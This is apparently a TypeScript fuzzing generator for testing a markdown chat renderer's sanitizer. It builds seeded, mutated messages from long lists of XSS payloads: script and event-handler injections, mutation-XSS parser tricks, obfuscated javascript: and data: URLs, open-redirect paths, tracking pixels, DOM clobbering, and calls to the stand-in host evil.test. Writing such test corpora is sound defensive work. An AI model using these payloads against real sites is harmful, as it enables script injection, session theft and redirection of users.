// Messages by somebody who wants the page to do something: what is known to have worked somewhere,
// in every dress that markdown has, and spoilt a little. The same seed writes the same ones.

/** Numbers from a seed, each below `n`. */
export function dice(seed: number): (n: number) => number {
  let state = seed >>> 0;
  return (n) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) % n;
  };
}

/** Whatever runs calls this. */
const RUN = ['hit()', 'window.hit()', 'top.hit`1`', 'alert(1)', 'eval(name)', 'import("http://evil.test/x.js")', 'fetch("http://evil.test/")', 'location="http://evil.test/"'];

/** Markup that does something by itself, or once somebody comes near. `J` stands for a script, `U` for an address. */
export const LIVE = [
  '<script>J</script>',
  '<script src="http://evil.test/x.js"></script>',
  '<img src=x onerror=J>',
  '<img src=http://evil.test/pixel.png>',
  '<img srcset="http://evil.test/pixel.png 1x">',
  '<svg onload=J>',
  '<svg><script>J</script></svg>',
  '<svg><animate onbegin=J attributeName=x dur=1s>',
  '<svg><a xlink:href="U"><text y=20>here</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a href=U /></svg>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.hit()</script>"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=J></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=J&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=J></annotation-xml></math>',
  '<math href="U">here</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=J>',
  '<noscript><p title="</noscript><img src=x onerror=J>">',
  '<textarea></textarea><img src=x onerror=J></textarea>',
  '<title></title><img src=x onerror=J></title>',
  '<xmp><p title="</xmp><svg/onload=J>">',
  '<iframe src="U"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="U"></object>',
  '<embed src="U">',
  '<base href="http://evil.test/">',
  '<link rel=stylesheet href="http://evil.test/x.css">',
  '<link rel=prefetch href="http://evil.test/">',
  '<meta http-equiv=refresh content="0;url=http://evil.test/">',
  '<style>@import "http://evil.test/x.css"; * { background: url(http://evil.test/pixel.png) }</style>',
  '<p style="background:url(http://evil.test/pixel.png)">here</p>',
  '<p style="position:fixed;inset:0;z-index:9999">covered</p>',
  '<input autofocus onfocus=J>',
  '<select autofocus onfocus=J>',
  '<details open ontoggle=J>',
  '<video><source onerror=J></video>',
  '<video poster="http://evil.test/pixel.png"></video>',
  '<audio src=x onerror=J></audio>',
  '<body onload=J>',
  '<marquee onstart=J>here</marquee>',
  '<table background="http://evil.test/pixel.png"><tr><td>here</table>',
  '<form action="U"><button>here</button></form>',
  '<form><button formaction="U">here</button></form>',
  '<form id=documentElement><input name=parentNode><input name=attributes></form>',
  '<a id=ownerDocument name=body href="U">here</a>',
  '<a href="U" ping="http://evil.test/">here</a>',
  '<a href="U" onclick=J target=_self>here</a>',
  '<area href="U">',
  '<template><script>J</script></template>',
  '<div><template shadowrootmode=open><img src=x onerror=J></template></div>',
  '<p is=x-y onpointerenter=J>here</p>',
  '<dialog open onclose=J>here</dialog>',
  '<div popover id=p onbeforetoggle=J></div><button popovertarget=p>here</button>',
  '<x onanimationstart=J style="animation:spin 1s">here',
  '<!--><img src=x onerror=J>-->',
  '<![CDATA[<img src=x onerror=J>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">J</x:script>',
  '</p></div><img src=x onerror=J>',
  '"><img src=x onerror=J>',
  `' onmouseover='J' x='`,
  '" onmouseover="J" x="',
  '` onmouseover=`J` x=`',
  'data-x" autofocus onfocus="J',
];

/** Addresses that lead away, or to a script. */
const ADDRESSES = [
  'javascript:J',
  'JaVaScRiPt:J',
  'java\tscript:J',
  'java\nscript:J',
  'java\0script:J',
  '\u0001javascript:J',
  ' javascript:J',
  '\u00a0javascript:J',
  '\ufeffjavascript:J',
  'javascript&colon;J',
  'javascript&#58;J',
  '&#106;avascript:J',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;J',
  'java&Tab;script:J',
  'java&NewLine;script:J',
  'javascript:%68%69%74()',
  '%6aavascript:J',
  'javascript://evil.test/%0aJ',
  'javascript\u2060:J',
  'javаscript:J',
  'vbscript:J',
  'livescript:J',
  'data:text/html,<script>J</script>',
  'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="J"/>',
  'blob:http://evil.test/x',
  'file:///etc/passwd',
  'filesystem:http://evil.test/x',
  'view-source:http://evil.test/',
  'intent://evil.test#Intent;end',
  'http://evil.test/',
  'https:evil.test',
  'http:\\\\evil.test',
  'http://127.0.0.1@evil.test/',
  '//evil.test/',
  '/\\evil.test/',
  '/&#92;evil.test/',
  '/&bsol;evil.test/',
  '/&#9;/evil.test/',
  '/&sol;evil.test/',
  '/\t/evil.test/',
  '/\n/evil.test/',
  '\\\\evil.test/',
  '\\/evil.test/',
  '/%2f/evil.test/',
  '/room/x?m=1" onmouseover="J',
  '/x) [y](javascript:J',
  'mailto:a@b" onfocus="J" autofocus="',
  '#" onclick="J',
  '?x=javascript:J',
  'ftp://evil.test/',
  'ws://evil.test/',
];

/** How markdown may carry something. `X` stands for it, `U` for an address. */
const DRESSES = [
  'X',
  '[here](U)',
  '[here](<U>)',
  '[here](U "X")',
  "[here](U 'X')",
  '![X](U)',
  '![here](U "X")',
  '[![X](U)](U)',
  '[here][1]\n\n[1]: U "X"',
  '[1]: <U>\n\n[X][1]',
  '[1][]\n\n[1]: U',
  '<U>',
  'U',
  '**X**',
  '_X_',
  '~~X~~',
  '# X',
  'X\n===',
  '> X',
  '> > X\n> U',
  '- X\n- [ ] U',
  '1. X',
  '999999999. [X](U)',
  '| X | U |\n|:--|--:|\n| X | [X](U) |',
  '`X`',
  '``X` ``',
  '```X\nU\n```',
  '```html\nX\n```',
  '```xml\n<a href="U">X\n```',
  '```javascript\n"X" + `U`\n```',
  '```markdown\n[X](U)\n```',
  '~~~" onmouseover="X\nX',
  '    X',
  '||X||',
  '||[here](U) X||',
  '@X',
  '@name"X',
  '#room"X',
  ':X:',
  ':party:X',
  ':party" X:',
  '$X$',
  '$$X$$',
  '$\\href{U}{X}$',
  '$\\url{U}$',
  '$\\text{X}$',
  '$\\htmlId{x" onmouseover="hit()}{y}$ X',
  '$\\htmlStyle{background:url(U)}{y}$ X',
  '$\\includegraphics[alt=X]{U}$',
  '$\\unicode{X}\\char"003C$',
  '$\\def\\a{\\a\\a}\\a$ X',
  '$$\\begin{matrix}X & U \\\\ \\text{X}\\end{matrix}$$',
  '<p>X</p>',
  '<div>\n\nX\n\n</div>',
  '<a href="U">X</a>',
  '<!-- X -->',
  '<pre data-language="X"><code>U</code></pre>',
  '<span class="math" data-math="block">X</span>',
  '<span class="spoiler named mention" data-name="X">:party:</span>',
  '\\<X',
  'X\\\nX',
  '&lt;X&gt;',
  '&#60;X&#62;',
  'www.X',
  'http://evil.test/X',
  'a@evil.test?X',
  '[^1]\n\n[^1]: X',
];

const SPOILS = ['\0', '\t', '\n', '\r', '\f', '\u000b', '\u00ad', '\u200b', '\u202e', '\ufeff', '\ufffd', '\ud800', '<', '>', '"', "'", '`', '&', '/', '\\', '(', ')', '[', ']', '$', '|', ':', '@', '#', '*', '_', '~', '=', '!', '-', '&#0;', '&lt;', '&quot;', '&amp;', '%00', '%0a', '﹤', '＜', 'ſ', 'İ', 'ı', '𝐣', '你'];

export function payload(roll: (n: number) => number): string {
  const one = <T>(of: T[]): T => of[roll(of.length)]!;
  const filled = (text: string): string => text.replaceAll('J', () => one(RUN));
  const address = (): string => filled(one(ADDRESSES));
  const live = (): string => filled(one(LIVE)).replaceAll('U', address);
  const dressed = (depth: number): string =>
    one(DRESSES).replace(/[XU]/g, (hole) => {
      if (hole === 'U') return address();
      return depth > 0 && roll(3) === 0 ? dressed(depth - 1) : roll(4) === 0 ? address() : live();
    });
  let text = dressed(3);
  if (roll(3) === 0) text += one(['', ' ', '\n', '\n\n']) + dressed(1);
  if (roll(40) === 0) text = one(['> ', '- ', '**', '[', '||', '![', '<p>', '$']).repeat(30 + roll(60)) + text;
  for (let spoils = roll(2) === 0 ? 0 : roll(6); spoils > 0; spoils--) text = spoilt(text, roll, one);
  return text;
}

function spoilt(text: string, roll: (n: number) => number, one: <T>(of: T[]) => T): string {
  const at = roll(text.length + 1);
  const rest = text.slice(at);
  switch (roll(7)) {
    case 0:
    case 1:
      return text.slice(0, at) + one(SPOILS) + rest;
    case 2:
      return text.slice(0, at) + rest.slice(1 + roll(3));
    case 3:
      return text.slice(0, at) + rest.slice(0, 20) + rest;
    case 4:
      return text.slice(0, at) + rest.replace(/[a-z]/i, (letter) => (roll(2) ? letter.toUpperCase() : `&#${letter.charCodeAt(0)};`));
    case 5:
      return text.slice(0, at) + rest.replace(/[<>"'&:]/, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`);
    default:
      return text.slice(0, at);
  }
}
